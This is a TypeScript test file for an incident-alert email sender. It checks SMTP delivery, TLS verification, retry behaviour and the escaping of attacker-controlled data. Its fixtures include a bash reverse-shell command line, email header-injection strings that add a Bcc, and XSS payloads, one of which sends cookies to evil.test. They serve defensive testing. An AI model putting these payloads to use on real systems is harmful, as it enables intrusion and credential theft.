/** The email notification against a real SMTP server (smtp-server), inside a real activity context. */
import { ApplicationFailure } from '@temporalio/common';
import { MockActivityEnvironment } from '@temporalio/testing';
import { afterEach, describe, expect, it } from 'vitest';
import { randomBytes } from 'node:crypto';
import { selfSignedCert, startTestSmtp, type TestSmtp } from '../../test/helpers/smtp.js';
import type { DigestNotice } from '../../src/contracts/notify.js';
import { ConfigError } from '../../src/errors.js';
import type { EmailReceipt, IncidentNotice } from '../../src/contracts/playbook.js';
import { createSmtpMailer } from './client.js';
import { loadNotifyConfig } from './config.js';
import { createNotifyActivities } from './index.js';

const notice: IncidentNotice = {
  incidentId: 'inc-web-01-0123456789abcdef',
  host: 'web-01',
  rule: 'Run shell untrusted\r\nBcc: attacker@evil.test',
  severity: 'high',
  verdict: 'malicious',
  riskScore: 90,
  techniques: [
    {
      id: 'T1059.004',
      known: true,
      name: 'Command and Scripting Interpreter: Unix Shell',
      tactics: ['execution'],
    },
  ],
  lineage: ['bash', 'nginx'],
  reasons: ['reverse-shell-pattern (+35)'],
  recommended: ['isolate-host: needs approval'],
  eventCount: 3,
  firstSeen: '2026-11-26T09:00:00Z',
  commandLine: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 <script>alert(1)</script>',
  playbook: 'suspicious-process@1.0.0',
};

let smtp: TestSmtp | undefined;
const cleanups: (() => void)[] = [];
afterEach(async () => {
  await smtp?.close();
  smtp = undefined;
  cleanups.splice(0).forEach((c) => c());
});

function activities(port: number, extra: Record<string, string> = {}) {
  const cfg = loadNotifyConfig({
    SMTP_HOST: '127.0.0.1',
    SMTP_PORT: String(port),
    SMTP_SECURITY: 'none',
    SMTP_TIMEOUT: '2s',
    VIGIL_MAIL_FROM: 'vigil@corp.test',
    VIGIL_MAIL_TO: 'soc@corp.test,lead@corp.test',
    ...extra,
  });
  return createNotifyActivities(createSmtpMailer(cfg), cfg);
}

const env = (activityId = '7') =>
  new MockActivityEnvironment({
    activityId,
    workflowExecution: { workflowId: 'inc-web-01-0123456789abcdef', runId: 'run-1' },
  });

/** Run notifyEmail as activity `activityId` of the same workflow run. */
const send = (a: ReturnType<typeof activities>, input: unknown, activityId = '7'): Promise<EmailReceipt> =>
  env(activityId).run<[IncidentNotice], EmailReceipt, (n: IncidentNotice) => Promise<EmailReceipt>>(
    (n) => a.notifyEmail(n),
    input as IncidentNotice,
  );

describe('notifyEmail', () => {
  it('delivers text and HTML to the configured recipients with escaped content and no header injection', async () => {
    smtp = await startTestSmtp();
    const r = await send(activities(smtp.port), notice);
    expect(r.accepted).toEqual(['soc@corp.test', 'lead@corp.test']);
    const m = smtp.messages[0];
    expect(m?.subject).toBe('[Vigil] MALICIOUS high on web-01: Run shell untrusted Bcc: attacker@evil.test');
    expect(m?.headers.get('bcc')).toBeUndefined();
    expect(m?.text).toContain('T1059.004 Command and Scripting Interpreter: Unix Shell');
    expect(m?.html).toContain('&lt;script&gt;');
    expect(m?.html).not.toContain('<script>');
    expect(m?.messageId).toBe(r.messageId);
    expect(m?.headers.get('x-vigil-incident')).toBe(notice.incidentId);
  });

  it('uses one deterministic Message-ID for every retry of the same activity, and another for another activity', async () => {
    smtp = await startTestSmtp();
    const a = activities(smtp.port);
    const first = await send(a, notice, '7');
    const retry = await send(a, notice, '7');
    const other = await send(a, notice, '8');
    expect(retry.messageId).toBe(first.messageId);
    expect(other.messageId).not.toBe(first.messageId);
    expect(smtp.messages.map((m) => m.messageId)).toEqual([
      first.messageId,
      first.messageId,
      other.messageId,
    ]);
  });

  it('fails non-retryably as Unauthenticated on wrong credentials, naming the server reply but not the password', async () => {
    smtp = await startTestSmtp({ user: 'vigil', password: 'right-password' });
    const err = await send(
      activities(smtp.port, { SMTP_USER: 'vigil', SMTP_PASSWORD: 'wrong-password' }),
      notice,
    ).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ApplicationFailure);
    expect((err as ApplicationFailure).type).toBe('Unauthenticated');
    expect((err as ApplicationFailure).nonRetryable).toBe(true);
    expect((err as ApplicationFailure).message).not.toContain('wrong-password');
    expect(smtp.messages).toHaveLength(0);
  });

  it('fails retryably as Unavailable when the server is down, and delivers once it is back', async () => {
    smtp = await startTestSmtp();
    const port = smtp.port;
    await smtp.close();
    const a = activities(port);
    const err = await send(a, notice).catch((e: unknown) => e);
    expect((err as ApplicationFailure).type).toBe('Unavailable');
    expect((err as ApplicationFailure).nonRetryable).toBe(false);
    smtp = await startTestSmtp({ port });
    const ok = await send(a, notice);
    expect(smtp.messages.map((m) => m.messageId)).toEqual([ok.messageId]);
  });

  it('refuses malformed input non-retryably with the zod issues', async () => {
    smtp = await startTestSmtp();
    const err = await send(activities(smtp.port), { ...notice, riskScore: 400 }).catch((e: unknown) => e);
    expect((err as ApplicationFailure).type).toBe('InvalidInput');
    expect((err as ApplicationFailure).nonRetryable).toBe(true);
    expect((err as ApplicationFailure).message).toContain('riskScore');
  });
});

const failureOf = async (p: Promise<unknown>) => {
  const e = await p.then(
    () => undefined,
    (x: unknown) => x,
  );
  expect(e).toBeInstanceOf(ApplicationFailure);
  return e as ApplicationFailure;
};

function cert() {
  const c = selfSignedCert();
  cleanups.push(c.cleanup);
  return c;
}

describe('notifyEmail over TLS', () => {
  it('upgrades with STARTTLS to a self-signed server trusted through SMTP_TLS_CA_FILE, then authenticates', async () => {
    const c = cert();
    smtp = await startTestSmtp({ tls: c, user: 'vigil', password: 'pw-over-tls' });
    const r = await send(
      activities(smtp.port, {
        SMTP_SECURITY: 'starttls',
        SMTP_TLS_CA_FILE: c.caFile,
        SMTP_USER: 'vigil',
        SMTP_PASSWORD: 'pw-over-tls',
      }),
      notice,
    );
    expect(smtp.messages.map((m) => m.messageId)).toEqual([r.messageId]);
    expect(smtp.secure).toEqual([true]);
    expect(smtp.logins).toEqual(['vigil']);
  });

  it('refuses the same server without the CA (verification is on by default), before sending credentials', async () => {
    const c = cert();
    smtp = await startTestSmtp({ tls: c, user: 'vigil', password: 'pw' });
    const f = await failureOf(
      send(
        activities(smtp.port, { SMTP_SECURITY: 'starttls', SMTP_USER: 'vigil', SMTP_PASSWORD: 'pw' }),
        notice,
      ),
    );
    expect([f.type, f.nonRetryable]).toEqual(['Misconfigured', true]);
    expect(f.message).toContain('SMTP_TLS_CA_FILE');
    expect(smtp.logins).toEqual([]);
    expect(smtp.messages).toHaveLength(0);
  });

  it('refuses a server whose certificate names another host, even with its CA trusted', async () => {
    const c = cert();
    smtp = await startTestSmtp({ tls: c });
    const f = await failureOf(
      send(
        activities(smtp.port, {
          SMTP_SECURITY: 'starttls',
          SMTP_TLS_CA_FILE: c.caFile,
          SMTP_TLS_SERVERNAME: 'mail.corp.test',
        }),
        notice,
      ),
    );
    expect([f.type, f.nonRetryable]).toEqual(['Misconfigured', true]);
    expect(smtp.messages).toHaveLength(0);
  });

  it('speaks implicit TLS (465 style) to a server trusted through the CA file', async () => {
    const c = cert();
    smtp = await startTestSmtp({ tls: c, implicitTls: true });
    await send(activities(smtp.port, { SMTP_SECURITY: 'tls', SMTP_TLS_CA_FILE: c.caFile }), notice);
    expect(smtp.secure).toEqual([true]);
  });

  it('with required STARTTLS, refuses a server that does not offer it and sends nothing (no downgrade)', async () => {
    smtp = await startTestSmtp({ user: 'vigil', password: 'pw' });
    const f = await failureOf(
      send(
        activities(smtp.port, { SMTP_SECURITY: 'starttls', SMTP_USER: 'vigil', SMTP_PASSWORD: 'pw' }),
        notice,
      ),
    );
    expect([f.type, f.nonRetryable]).toEqual(['Misconfigured', true]);
    expect(smtp.logins).toEqual([]);
    expect(smtp.messages).toHaveLength(0);
  });

  it('with opportunistic STARTTLS, encrypts when offered and delivers in plain text when not', async () => {
    const c = cert();
    smtp = await startTestSmtp({ tls: c });
    await send(activities(smtp.port, { SMTP_SECURITY: 'opportunistic', SMTP_TLS_CA_FILE: c.caFile }), notice);
    expect(smtp.secure).toEqual([true]);
    await smtp.close();
    smtp = await startTestSmtp();
    await send(activities(smtp.port, { SMTP_SECURITY: 'opportunistic' }), notice);
    expect(smtp.secure).toEqual([false]);
  });

  it('delivers a large notice (4 MB of evidence) intact, text and HTML', async () => {
    const c = cert();
    smtp = await startTestSmtp({ tls: c });
    const evidence = randomBytes(3 * 1024 * 1024).toString('base64'); // 4 MiB of characters
    const r = await send(
      activities(smtp.port, { SMTP_SECURITY: 'starttls', SMTP_TLS_CA_FILE: c.caFile, SMTP_TIMEOUT: '20s' }),
      { ...notice, commandLine: evidence },
    );
    const m = smtp.messages[0];
    expect(m?.messageId).toBe(r.messageId);
    expect(m?.text).toContain(`Command line: ${evidence}\n`);
    expect(m?.html).toContain(`<td>${evidence}</td>`);
  });
});

describe('rendering of attacker-controlled event data', () => {
  const hostile: IncidentNotice = {
    ...notice,
    incidentId: 'inc-x\r\nBcc: attacker@evil.test\r\nX-Injected: 1',
    host: '<img src=x onerror=alert(1)>\u2028Subject: spoofed',
    rule: '"><script>fetch("https://evil.test/"+document.cookie)</script>',
    reasons: ["' onmouseover='alert(1)", '\u001b[2J\u001b[31mterminal escape'],
    lineage: ['</td></tr></table><a href="javascript:alert(1)">click</a>'],
  };

  it('escapes every value in HTML, strips control characters from text, and keeps every header to one line', async () => {
    smtp = await startTestSmtp();
    await send(activities(smtp.port), hostile);
    const m = smtp.messages[0];
    if (!m) throw new Error('no message');
    const html = m.html || '';
    expect(html).not.toMatch(/<script|<img|<a[\s>]|onmouseover='/);
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(html).toContain('&#39; onmouseover=&#39;alert(1)');
    expect(html).toContain('&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;');
    expect(m.headers.get('bcc')).toBeUndefined();
    expect(m.headers.get('x-injected')).toBeUndefined();
    expect(m.headers.get('x-vigil-incident')).toBe('inc-x Bcc: attacker@evil.test X-Injected: 1');
    expect(m.subject).not.toMatch(/[\r\n\u2028]/);
    expect(m.subject).toContain('<img src=x onerror=alert(1)> Subject: spoofed');
    expect(m.text).not.toContain('\u001b');
    expect(m.text).toContain('[2J[31mterminal escape');
    expect(m.to && 'value' in m.to ? m.to.value.map((a) => a.address) : []).toEqual([
      'soc@corp.test',
      'lead@corp.test',
    ]);
  });

  it('escapes the digest the same way and counts what it lists', async () => {
    smtp = await startTestSmtp();
    const digest: DigestNotice = {
      channel: 'email',
      from: '2026-11-26T09:00:00.000Z',
      to: '2026-11-26T09:10:00.000Z',
      suppressed: 7,
      groups: [
        {
          key: 'k<1>',
          summary: '<script>alert(1)</script>\r\nBcc: x@evil.test',
          count: 5,
          duplicates: 2,
          first: '2026-11-26T09:00:01.000Z',
          last: '2026-11-26T09:00:02.000Z',
        },
      ],
      unlisted: 2,
      failed: [],
      failedTotal: 0,
      limit: { perWindow: 5, windowMs: 600_000, dedupeMs: 3_600_000 },
    };
    const a = activities(smtp.port);
    await env('20').run((i: unknown) => a.deliverNotification(i as never), {
      channel: 'email',
      message: { kind: 'digest', digest },
    });
    const m = smtp.messages[0];
    expect(m?.subject).toBe('[Vigil] DIGEST: 7 notifications held back (email)');
    expect(m?.html).not.toContain('<script>');
    expect(m?.html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(m?.text).toContain('Held back: 7 (listed below by key; 2 more counted but not listed)');
    expect(m?.text).toContain('5 x <script>alert(1)</script>');
    expect(m?.headers.get('bcc')).toBeUndefined();
  });
});

describe('email configuration', () => {
  const keys = (extra: Record<string, string>) => {
    try {
      loadNotifyConfig({
        SMTP_HOST: 'smtp.corp.test',
        VIGIL_MAIL_FROM: 'vigil@corp.test',
        VIGIL_MAIL_TO: 'soc@corp.test',
        ...extra,
      });
    } catch (e) {
      if (e instanceof ConfigError) return e.problems.map((p) => p.key);
      throw e;
    }
    return [];
  };
  it('names the key of each bad setting', () => {
    expect(keys({})).toEqual([]);
    expect(keys({ SMTP_TLS_CA_FILE: '/nonexistent/ca.pem' })).toEqual(['SMTP_TLS_CA_FILE']);
    expect(keys({ SMTP_TLS_CA_FILE: '/etc/hostname' })).toEqual(['SMTP_TLS_CA_FILE']);
    expect(keys({ SMTP_SECURITY: 'ssl' })).toEqual(['SMTP_SECURITY']);
    expect(keys({ SMTP_USER: 'u' })).toEqual(['SMTP_PASSWORD']);
    // A password over a maybe-plain connection to another host: refused; to a loopback mailbox: allowed.
    expect(keys({ SMTP_SECURITY: 'none', SMTP_USER: 'u', SMTP_PASSWORD: 'p' })).toEqual(['SMTP_SECURITY']);
    expect(keys({ SMTP_SECURITY: 'opportunistic', SMTP_USER: 'u', SMTP_PASSWORD: 'p' })).toEqual([
      'SMTP_SECURITY',
    ]);
    expect(
      keys({ SMTP_HOST: '127.0.0.1', SMTP_SECURITY: 'none', SMTP_USER: 'u', SMTP_PASSWORD: 'p' }),
    ).toEqual([]);
    expect(keys({ SMTP_TIMEOUT: 'soon' })).toEqual(['SMTP_TIMEOUT']);
  });
});
